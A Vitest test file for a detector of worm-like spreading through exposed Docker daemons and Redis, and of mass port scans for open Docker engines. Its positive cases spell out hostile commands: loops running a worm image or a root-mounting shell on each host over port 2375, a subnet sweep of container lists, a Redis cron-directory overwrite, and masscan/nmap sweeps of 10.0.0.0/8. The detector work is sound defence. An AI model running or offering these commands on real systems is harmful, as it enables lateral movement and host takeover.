import { describe, expect, it } from 'vitest';
import { looksForEngines, spreadsBy } from './spreading';

describe('spreading by the engines of others', () => {
  it.each([
    ['for i in $(cat /ips); do docker -H tcp://$i:2375 run -d stranger/worm; done'],
    ['while read ip; do docker -H $ip:2375 run -v /:/h alpine chroot /h sh; done'],
    ['for i in $(seq 254); do curl -s http://203.0.113.$i:2375/containers/json; done'],
    ['cat l | xargs -I{} sh -c "DOCKER_HOST=tcp://$1:4243 docker ps"'],
    ['while read h; do redis-cli -h $h config set dir /var/spool/cron; done'],
  ])('%s', (line) => {
    expect(spreadsBy(line)).not.toBe('');
  });
  it.each([
    ['docker -H tcp://docker:2375 run hello-world'],
    ['docker -H ssh://deploy@app.example.org compose up -d'],
    ['for i in $(cat /hosts); do docker -H ssh://$i pull app; done'],
    ['until curl -s http://docker:2375/_ping; do sleep 1; done'],
    ['docker -H tcp://$DIND:2375 build .'],
    ['redis-cli -h cache config set dir /data'],
  ])('not %s', (line) => {
    expect(spreadsBy(line)).toBe('');
  });
  it('looks for open engines', () => {
    expect(looksForEngines('masscan 10.0.0.0/8 -p2375,2376 --rate 50000')).toBe(true);
    expect(looksForEngines('nmap -p 22,4243 10.0.0.0/8')).toBe(true);
    expect(looksForEngines('masscan 10.0.0.0/8 -p80')).toBe(false);
    expect(looksForEngines('nmap -p 12375 10.0.0.0/8')).toBe(false);
  });
});
